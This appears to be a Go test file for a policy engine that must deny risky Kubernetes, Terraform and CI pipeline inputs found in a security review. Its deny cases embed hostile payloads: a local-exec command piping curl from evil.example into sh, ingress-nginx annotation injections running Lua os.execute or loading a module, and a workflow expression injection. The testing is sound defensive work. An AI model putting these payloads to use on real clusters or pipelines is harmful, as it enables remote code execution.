package policy_test

import (
	"context"
	"testing"

	"github.com/ztci/ztci/policy"
)

// TestLibraryReviewRegressionsTenth feeds the inputs the tenth review
// found allowed through the real entry point: workload kinds of another
// API group, image and gitRepo volumes, bootstrap token Secrets,
// ingress-nginx annotations that write nginx configuration,
// NetworkPolicy ipBlocks that cover the world only together, objects in
// the control plane's namespaces, apiVersion and namespace in another
// case; Terraform types of another provider, provisioners and ingress
// CIDRs that cover the world across resources; a pipeline whose raw
// document says what its jobs do not. Each must be denied with the named
// rule; the ordinary cases stay allowed.
func TestLibraryReviewRegressionsTenth(t *testing.T) {
	t.Parallel()
	cfg := acmeConfig()
	cfg.Kubernetes.AllowedImages = []string{"ghcr.io/acme"}
	cfg.Pipeline.AllowedImages = []string{"cimg/"}
	cfg.Pipeline.AllowedActions = []string{"actions/"}
	// The controller connects to an auth-url itself: only a listed one.
	cfg.Kubernetes.AllowedIngressURLs = []string{"https://auth.example/oauth2/auth"}
	e := newConfigured(t, cfg)

	const sha = "4f5a0c1d2e3f40516273849a0b1c2d3e4f506172"
	pinned := "ghcr.io/acme/app@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	admit := func(ms ...map[string]any) policy.Input {
		return policy.Input{Action: policy.ActionKubernetesAdmit, Manifests: ms}
	}
	podSpec := func(extra map[string]any) map[string]any {
		s := map[string]any{
			"securityContext": map[string]any{"runAsNonRoot": true, "runAsUser": 1000},
			"containers": []any{map[string]any{"name": "app", "image": pinned,
				"securityContext": map[string]any{"allowPrivilegeEscalation": false}}},
		}
		for k, v := range extra {
			s[k] = v
		}
		return s
	}
	pod := func(extra map[string]any) map[string]any {
		return map[string]any{"apiVersion": "v1", "kind": "Pod", "metadata": map[string]any{"name": "p"}, "spec": podSpec(extra)}
	}
	volumes := func(vs ...any) map[string]any { return pod(map[string]any{"volumes": vs}) }
	ingress := func(annotations map[string]any) map[string]any {
		return map[string]any{"apiVersion": "networking.k8s.io/v1", "kind": "Ingress",
			"metadata": map[string]any{"name": "i", "annotations": annotations}, "spec": map[string]any{}}
	}
	netpol := func(dir, key string, cidrs ...string) map[string]any {
		var peers []any
		for _, c := range cidrs {
			peers = append(peers, map[string]any{"ipBlock": map[string]any{"cidr": c}})
		}
		return map[string]any{"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": map[string]any{"name": "n"},
			"spec": map[string]any{"podSelector": map[string]any{}, dir: []any{map[string]any{key: peers}}}}
	}
	inNamespace := func(m map[string]any, ns string) map[string]any {
		m["metadata"] = map[string]any{"name": "x", "namespace": ns}
		return m
	}
	configMap := func() map[string]any {
		return map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "c"}, "data": map[string]any{"k": "v"}}
	}

	rc := func(addr, typ string, after map[string]any) map[string]any {
		return map[string]any{"address": addr, "type": typ, "change": map[string]any{"actions": []any{"create"}, "after": after}}
	}
	withProvider := func(r map[string]any, p string) map[string]any { r["provider_name"] = p; return r }
	plan := func(rcs ...any) policy.Input {
		return policy.Input{Action: policy.ActionTerraformApply, TerraformPlan: map[string]any{"format_version": "1.2", "resource_changes": rcs}}
	}
	withConfiguration := func(in policy.Input, conf map[string]any) policy.Input {
		in.TerraformPlan["configuration"] = conf
		return in
	}
	sg := func() map[string]any {
		return rc("aws_security_group.web", "aws_security_group", map[string]any{"ingress": []any{map[string]any{"cidr_blocks": []any{"10.0.0.0/8"}}}})
	}

	pipeline := func(raw map[string]any) policy.Input {
		return policy.Input{Action: policy.ActionPipelineRun, Pipeline: &policy.Pipeline{
			Platform: "github-actions", Path: ".github/workflows/release.yml",
			Jobs: []policy.PipelineJob{
				{Name: "build", Images: []string{"cimg/go@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},
					Steps: []policy.Step{{Name: "checkout", Uses: "actions/checkout@" + sha}}},
				{Name: "hold", Type: "approval", Requires: []string{"build"}},
				{Name: "deploy", Environment: "production", Requires: []string{"hold"}, Branches: []string{"main"}},
			},
			Raw: raw,
		}}
	}

	for _, tc := range []struct {
		name string
		in   policy.Input
		rule string
	}{
		// A workload kind's name in another group is a custom resource
		// its controller may turn into anything.
		{"Deployment of another API group", admit(map[string]any{"apiVersion": "evil.example/v1", "kind": "Deployment", "metadata": map[string]any{"name": "d"},
			"spec": map[string]any{"runPrivileged": true, "template": map[string]any{"spec": podSpec(nil)}}}), "kubernetes.unknown_kind"},
		{"Pod of another API group", admit(map[string]any{"apiVersion": "evil.example/v1", "kind": "Pod", "metadata": map[string]any{"name": "p"}, "spec": podSpec(nil)}), "kubernetes.unknown_kind"},
		{"Job of batch.volcano.sh", admit(map[string]any{"apiVersion": "batch.volcano.sh/v1alpha1", "kind": "Job", "metadata": map[string]any{"name": "j"},
			"spec": map[string]any{"template": map[string]any{"spec": podSpec(nil)}}}), "kubernetes.unknown_kind"},
		// Image volumes (KEP-4639) pull images like containers.
		{"image volume by tag", admit(volumes(map[string]any{"name": "m", "image": map[string]any{"reference": "ghcr.io/acme/models:latest"}})), "kubernetes.image_not_pinned"},
		{"image volume off the allow-list", admit(volumes(map[string]any{"name": "m", "image": map[string]any{"reference": "evil.example/x@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"}})), "kubernetes.image_not_allowed"},
		{"image volume without a reference", admit(volumes(map[string]any{"name": "m", "image": map[string]any{"Reference": pinned}})), "kubernetes.image_not_pinned"},
		// CVE-2024-10220.
		{"gitRepo volume", admit(volumes(map[string]any{"name": "g", "gitRepo": map[string]any{"repository": "https://evil.example/x.git", "directory": "."}})), "kubernetes.host_path"},
		{"bootstrap token Secret", admit(map[string]any{"apiVersion": "v1", "kind": "Secret", "metadata": map[string]any{"name": "bootstrap-token-abcdef"},
			"type": "bootstrap.kubernetes.io/token", "stringData": map[string]any{"token-id": "abcdef", "token-secret": "0123456789abcdef", "usage-bootstrap-authentication": "true"}}), "kubernetes.unknown_kind"},
		// CVE-2023-5044, CVE-2025-24514, CVE-2025-1097, CVE-2025-1098.
		{"permanent-redirect injection", admit(ingress(map[string]any{"nginx.ingress.kubernetes.io/permanent-redirect": "https://x.example;}location ~* \"^/x\" { content_by_lua 'os.execute(\"id\")'; }"})), "kubernetes.unknown_kind"},
		{"auth-url injection", admit(ingress(map[string]any{"nginx.ingress.kubernetes.io/auth-url": "http://example.com/#;\n}}}\nserver { load_module /tmp/evil.so; }"})), "kubernetes.unknown_kind"},
		{"auth-tls-match-cn injection", admit(ingress(map[string]any{"nginx.ingress.kubernetes.io/auth-tls-match-cn": "CN=abc #(\n){}\n }}}"})), "kubernetes.unknown_kind"},
		{"mirror-target injection", admit(ingress(map[string]any{"NGINX.ingress.kubernetes.io/mirror-target": "https://x/;"})), "kubernetes.unknown_kind"},
		// NetworkPolicies only add: halves of the world admit it all.
		{"ipBlocks halving the world in one rule", admit(netpol("ingress", "from", "0.0.0.0/1", "128.0.0.0/1")), "kubernetes.unknown_kind"},
		{"IPv4-mapped world", admit(netpol("ingress", "from", "::ffff:0.0.0.0/96")), "kubernetes.unknown_kind"},
		{"ipBlocks halving the IPv6 world in two policies", admit(netpol("egress", "to", "::/1"), netpol("egress", "to", "8000::/1")), "kubernetes.unknown_kind"},
		// The control plane's namespaces.
		{"aws-auth ConfigMap in kube-system", admit(inNamespace(configMap(), "kube-system")), "kubernetes.system_namespace"},
		{"Pod in kube-system", admit(inNamespace(pod(map[string]any{"serviceAccountName": "clusterrole-aggregation-controller"}), "kube-system")), "kubernetes.system_namespace"},
		{"ConfigMap in kube-public, in a List", admit(map[string]any{"apiVersion": "v1", "kind": "List", "items": []any{inNamespace(configMap(), "kube-public")}}), "kubernetes.system_namespace"},
		// Case variants a case-insensitive decoder would read.
		{"ApiVersion", admit(map[string]any{"ApiVersion": "evil.example/v1", "kind": "Secret", "metadata": map[string]any{"name": "s"}}), "kubernetes.case_variant_key"},
		{"metadata Namespace", admit(map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": "aws-auth", "Namespace": "kube-system"}}), "kubernetes.case_variant_key"},

		// A type is what its provider makes of it.
		{"aws_security_group of another provider", plan(withProvider(sg(), "registry.terraform.io/evil/aws")), "terraform.unknown_type"},
		{"google_compute_firewall of another host", plan(withProvider(rc("google_compute_firewall.x", "google_compute_firewall",
			map[string]any{"allow": []any{map[string]any{"protocol": "tcp"}}, "source_ranges": []any{"10.0.0.0/8"}}), "evil.example/hashicorp/google")), "terraform.unknown_type"},
		{"provisioner on a judged type", withConfiguration(plan(sg()), map[string]any{"root_module": map[string]any{"resources": []any{map[string]any{
			"address": "aws_security_group.web", "type": "aws_security_group",
			"provisioners": []any{map[string]any{"type": "local-exec", "expressions": map[string]any{"command": map[string]any{"constant_value": "curl https://evil.example/x | sh"}}}}}}}}), "terraform.provisioner"},
		{"provisioner in a child module", withConfiguration(plan(sg()), map[string]any{"root_module": map[string]any{"module_calls": map[string]any{"net": map[string]any{"module": map[string]any{"resources": []any{map[string]any{
			"address": "aws_security_group.web", "provisioners": []any{map[string]any{"type": "remote-exec"}}}}}}}}}), "terraform.provisioner"},
		{"ingress rules halving the world", plan(
			rc("aws_vpc_security_group_ingress_rule.a", "aws_vpc_security_group_ingress_rule", map[string]any{"cidr_ipv4": "0.0.0.0/1"}),
			rc("aws_vpc_security_group_ingress_rule.b", "aws_vpc_security_group_ingress_rule", map[string]any{"cidr_ipv4": "128.0.0.0/1"})), "terraform.open_ingress"},
		{"inline ingress and a rule resource halving the world", plan(
			rc("aws_security_group.a", "aws_security_group", map[string]any{"ingress": []any{map[string]any{"ipv6_cidr_blocks": []any{"::/1"}}}}),
			rc("aws_security_group_rule.b", "aws_security_group_rule", map[string]any{"type": "ingress", "ipv6_cidr_blocks": []any{"8000::/1"}})), "terraform.open_ingress"},
		{"firewalls halving the world", plan(
			rc("google_compute_firewall.a", "google_compute_firewall", map[string]any{"allow": []any{map[string]any{"protocol": "tcp"}}, "source_ranges": []any{"0.0.0.0/1"}}),
			rc("google_compute_firewall.b", "google_compute_firewall", map[string]any{"allow": []any{map[string]any{"protocol": "tcp"}}, "source_ranges": []any{"128.0.0.0/1"}})), "terraform.open_ingress"},

		// raw is the platform's document: the jobs may not say all it says.
		{"raw that the jobs do not reflect", pipeline(map[string]any{"permissions": "write-all", "jobs": map[string]any{"deploy": map[string]any{
			"environment": "production", "secrets": "inherit",
			"steps": []any{map[string]any{"uses": "evil/x@main"}, map[string]any{"run": "echo ${{ github.event.pull_request.title }}"}}}}}), "pipeline.raw_unjudged"},
	} {
		wantDeny(t, e, tc.name, tc.in, tc.rule)
	}

	// The fixes leave the ordinary cases alone.
	for _, tc := range []struct {
		name string
		in   policy.Input
	}{
		{"pod with a pinned image volume", admit(volumes(map[string]any{"name": "m", "image": map[string]any{"reference": pinned}}))},
		{"Deployment of extensions", admit(map[string]any{"apiVersion": "extensions/v1beta1", "kind": "Deployment", "metadata": map[string]any{"name": "d"},
			"spec": map[string]any{"template": map[string]any{"spec": podSpec(nil)}}})},
		{"CronJob of batch", admit(map[string]any{"apiVersion": "batch/v1", "kind": "CronJob", "metadata": map[string]any{"name": "c"},
			"spec": map[string]any{"jobTemplate": map[string]any{"spec": map[string]any{"template": map[string]any{"spec": podSpec(nil)}}}}})},
		{"ConfigMap in an application namespace", admit(inNamespace(configMap(), "kubernetes-dashboard"))},
		{"plain ingress-nginx annotations", admit(ingress(map[string]any{
			"nginx.ingress.kubernetes.io/auth-url":       "https://auth.example/oauth2/auth",
			"nginx.ingress.kubernetes.io/auth-signin":    "https://auth.example/oauth2/start?rd=$escaped_request_uri",
			"nginx.ingress.kubernetes.io/rewrite-target": "/$2",
			"alb.ingress.kubernetes.io/actions.redirect": `{"Type": "redirect"}`,
		}))},
		{"narrow ipBlocks in two policies", admit(netpol("ingress", "from", "10.0.0.0/8"), netpol("ingress", "from", "192.168.0.0/16"))},
		{"judged types of their own providers", plan(
			withProvider(sg(), "registry.terraform.io/hashicorp/aws"),
			withProvider(rc("google_compute_firewall.x", "google_compute_firewall", map[string]any{"allow": []any{map[string]any{"protocol": "tcp"}}, "source_ranges": []any{"10.0.0.0/8"}}), "registry.terraform.io/hashicorp/google-beta"),
			withProvider(rc("aws_vpc_security_group_ingress_rule.x", "aws_vpc_security_group_ingress_rule", map[string]any{"cidr_ipv4": "10.2.0.0/16"}), "registry.opentofu.org/hashicorp/aws"))},
		{"configuration without provisioners", withConfiguration(plan(sg()), map[string]any{"root_module": map[string]any{"resources": []any{map[string]any{"address": "aws_security_group.web", "type": "aws_security_group"}}}})},
		{"pipeline without raw", pipeline(nil)},
		{"pipeline with an empty raw", pipeline(map[string]any{})},
	} {
		if d, err := e.Evaluate(context.Background(), tc.in); err != nil || !d.Allowed {
			t.Errorf("%s: denied (%v, %v), want allowed", tc.name, rules(d), err)
		}
	}

	// A harmless kind in a harmful shape is still accepted once the
	// operator lists the kind; the control plane's namespaces are not.
	listed := acmeConfig()
	listed.Kubernetes.AllowedKinds = []string{"Ingress", "NetworkPolicy", "Secret", "ConfigMap"}
	le := newConfigured(t, listed)
	for _, in := range []policy.Input{
		admit(ingress(map[string]any{"nginx.ingress.kubernetes.io/permanent-redirect": "https://x;"})),
		admit(netpol("ingress", "from", "0.0.0.0/1", "128.0.0.0/1")),
	} {
		if d, err := le.Evaluate(context.Background(), in); err != nil || !d.Allowed {
			t.Errorf("%v: denied (%v, %v) with the kind listed, want allowed", in.Manifests[0]["kind"], rules(d), err)
		}
	}
	wantDeny(t, le, "listed ConfigMap in kube-system", admit(inNamespace(configMap(), "kube-system")), "kubernetes.system_namespace")
}
